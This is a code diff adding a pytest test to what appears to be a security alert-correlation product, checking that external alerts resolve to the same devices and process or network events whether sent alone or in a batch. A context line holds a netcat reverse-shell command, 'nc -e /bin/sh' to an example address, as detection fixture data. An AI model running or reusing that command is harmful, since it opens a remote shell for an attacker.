@@ -9,7 +9,10 @@ from typing import Any
 from sqlalchemy import func, select, update
 
 from shieldwall.alerts.models import Alert, Incident
+from shieldwall.detection.external.flows import Ask
 from shieldwall.detection.external.models import ReceivedAlert
+from shieldwall.detection.external.resolution import resolve
+from shieldwall.detection.external.schema import read
 from shieldwall.times import now, to_text
 from tests.detection.external.conftest import BAD, DB, GATEWAY, WEB, World, connection, suricata
 
@@ -231,3 +234,80 @@ def test_a_process_of_a_device_is_found_by_its_id_and_name(world: World) -> None
     assert world.kinds(outcome.alert_id)["Process"] == ["nc -e /bin/sh 203.0.113.9 4444"]
     other = world.one({**falco, "uuid": "f-2", "output_fields": {"proc.pid": 4321, "proc.name": "sshd"}})
     assert world.kinds(other.alert_id)["Process"] == ["sshd"], "another process had that number"
+
+
+def test_alerts_of_one_request_are_found_as_each_alone(world: World) -> None:
+    """Of every way there is, the same alerts together and each in a request of its own."""
+    earlier = now() - timedelta(minutes=40)
+    last_day = now() - timedelta(hours=20)
+    world.report(
+        connection(),
+        connection(pid=650, when=earlier),
+        connection("11.3.3.3", local=("10.0.0.5", 42000), pid=800),
+        connection("11.6.6.6", local=("10.0.0.5", 42100), pid=810, when=last_day),
+        connection("11.8.8.8", local=("10.0.0.5", 42200), RemoteUrl="Late.Example"),
+        connection("11.5.5.5", 55000, local=("10.0.0.5", 22), ActionType="InboundConnectionAccepted"),
+        connection("10.0.0.6", 5432, local=("10.0.0.5", 43000)),
+        {
+            "Table": "DeviceProcessEvents",
+            "Timestamp": to_text(earlier),
+            "ActionType": "ProcessCreated",
+            "FileName": "nc",
+            "FolderPath": "/usr/bin/nc",
+            "ProcessId": 4321,
+            "ProcessCreationTime": to_text(earlier),
+            "SHA256": "d" * 64,
+        },
+    )
+    called = connection("10.0.0.5", 43000, local=("10.0.0.6", 5432), pid=900)
+    world.report(
+        connection("11.3.3.3", local=("10.0.0.6", 42001), pid=801, when=earlier),
+        connection("11.7.7.7", local=("10.0.0.6", 42300), pid=820),
+        connection("11.7.7.7", local=("10.0.0.6", 42301), pid=821),
+        {**called, "ActionType": "InboundConnectionAccepted"},
+        device=DB,
+    )
+
+    def network(source: str, port: int | None, far: str, far_port: int = 443, **more: Any) -> dict[str, Any]:
+        ends = {"sourceAddress": source, "destinationAddress": far, "destinationPort": far_port}
+        return {"network": ends | ({"sourcePort": port} if port else {}) | more}
+
+    bodies = [
+        network("10.0.0.5", 40001, BAD),
+        network("10.0.0.5", 40001, BAD) | {"time": to_text(earlier)},
+        network("10.0.0.5", 42100, "11.6.6.6") | {"time": to_text(last_day)},
+        network(GATEWAY, 61234, "11.3.3.3"),
+        network(GATEWAY, 61234, "11.3.3.3") | {"time": to_text(earlier)},
+        network(GATEWAY, 61234, BAD, translatedSourceAddress="10.0.0.5", translatedSourcePort=40001),
+        network(GATEWAY, None, "11.7.7.7"),
+        network("11.5.5.5", 55000, "10.0.0.5", 22, direction="Inbound"),
+        network("10.0.0.5", 43000, "10.0.0.6", 5432),
+        network("10.0.0.5", 1, "11.9.9.9"),
+        network("10.0.0.6", 1, "11.9.9.9") | {"time": to_text(last_day)},
+        network("10.0.0.99", 40555, BAD),
+        network("10.0.0.5", 1, "11.9.9.9", domain="late.example"),
+        {"device": {"id": WEB.upper()}},
+        {"device": {"name": "DB01"}},
+        {"device": {"name": "web01"}},
+        {"device": {"name": "web01.fabrikam.com"}},
+        {"device": {"macAddresses": ["02-00-00-00-00-06"]}},
+        {"device": {"addresses": ["10.0.0.77", "10.0.0.6"]}},
+        {"device": {"name": "web01"}, "processes": [{"processId": 4321, "name": "nc"}]},
+        {"device": {"name": "web01"}, "processes": [{"processId": 4321, "name": "sshd"}]},
+        {"device": {"name": "web01"}, "files": [{"name": "x", "sha256": "D" * 64}, {"sha256": "e" * 64}]},
+        {"device": {"name": "db01"}, "files": [{"name": "x", "sha256": "d" * 64}]},
+        {},
+    ]
+    asks = [Ask(read(ours(sensor=str(number)) | body), 0.0) for number, body in enumerate(bodies)]
+    with world.database.read(world.tenant) as session:
+        alone = [resolve(session, world.store, world.tenant, [ask])[0] for ask in asks]
+        together = resolve(session, world.store, world.tenant, asks)
+    for body, one, among in zip(bodies, alone, together, strict=True):
+        assert among == one, body
+    assert [{WEB: "web", DB: "db", None: ""}[each.device_id] for each in alone] == [
+        *("web", "web", "web", "web", "db", "web", "db", "web", "web", "web", "", "", "web"),
+        *("web", "db", "web", "", "db", "db", "web", "web", "web", "db", ""),
+    ]
+    assert [number for number, each in enumerate(alone) if each.match] == [0, 1, 2, 3, 4, 5, 7, 8, 12, 19, 21]
+    assert together[21].match is not None
+    assert together[21].match.row["FolderPath"] == "/usr/bin/nc"
